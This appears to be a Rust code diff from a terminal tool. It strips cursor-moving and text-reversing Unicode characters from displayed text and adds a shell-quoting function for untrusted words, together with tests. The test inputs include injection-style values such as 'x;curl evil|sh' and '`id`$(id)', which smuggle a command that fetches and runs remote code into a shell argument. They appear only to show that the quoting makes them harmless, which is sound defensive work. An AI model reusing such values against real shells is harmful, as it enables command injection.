@@ -100,11 +100,15 @@ pub(super) fn time(time: Option<SystemTime>) -> String {
     )
 }
 
-/// The text on one line, without control characters, cut to this many characters.
+/// The text on one line, without characters that move the cursor or turn the text round, cut to this many
+/// characters.
 pub(super) fn cut(text: &str, most: usize) -> String {
     let plain: String = text
         .chars()
-        .map(|letter| if letter.is_control() { ' ' } else { letter })
+        .map(|letter| match lapwing::is_hidden(letter) {
+            true => ' ',
+            false => letter,
+        })
         .collect();
     match plain.chars().count() > most {
         true => plain
@@ -114,6 +118,25 @@ pub(super) fn cut(text: &str, most: usize) -> String {
             .collect(),
         false => plain,
     }
+}
+
+/// A word of others as a shell takes it: as it is, or in quotes. What cannot be seen is written as an escape of
+/// `$'..'`, which bash, zsh and ksh know.
+pub(super) fn quoted(word: &str) -> String {
+    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "._:-".contains(letter);
+    if !word.is_empty() && !word.starts_with('-') && word.chars().all(is_plain) {
+        return word.to_owned();
+    }
+    if !word.contains(lapwing::is_hidden) {
+        return format!("'{}'", word.replace('\'', r"'\''"));
+    }
+    let escaped = word.chars().map(|letter| match letter {
+        '\'' | '\\' => format!("\\{letter}"),
+        _ if letter.is_ascii_control() => format!("\\x{:02x}", u32::from(letter)),
+        _ if lapwing::is_hidden(letter) => format!("\\u{:04x}", u32::from(letter)),
+        _ => letter.to_string(),
+    });
+    format!("$'{}'", escaped.collect::<String>())
 }
 
 /// A text that may be long, such as an error, in at most so many lines behind `indent` spaces. A word that is
@@ -241,8 +264,26 @@ mod tests {
     #[test]
     fn a_text_fits_its_columns_and_cannot_move_the_cursor() {
         assert_eq!(cut("a\nb\u{1b}[2J", 80), "a b [2J");
+        assert_eq!(cut("a\u{202e}b\u{2066}c\u{2028}d", 80), "a b c d");
+        assert_eq!(folded("a\u{202e}b", 0, 1), ["a b"]);
         assert_eq!(cut("äöüß", 3), "äö…");
         assert_eq!(cut("äöü", 3), "äöü");
+    }
+
+    #[test]
+    fn a_word_of_others_is_one_word_of_a_shell() {
+        for (word, wanted) in [
+            ("order-554.a:B_9", "order-554.a:B_9"),
+            ("a b", "'a b'"),
+            ("x;curl evil|sh", "'x;curl evil|sh'"),
+            ("`id`$(id)", "'`id`$(id)'"),
+            ("it's", r"'it'\''s'"),
+            ("-rf", "'-rf'"),
+            ("", "''"),
+            ("a\n'b\\\u{202e}", r"$'a\x0a\'b\\\u202e'"),
+        ] {
+            assert_eq!(quoted(word), wanted);
+        }
     }
 
     #[test]
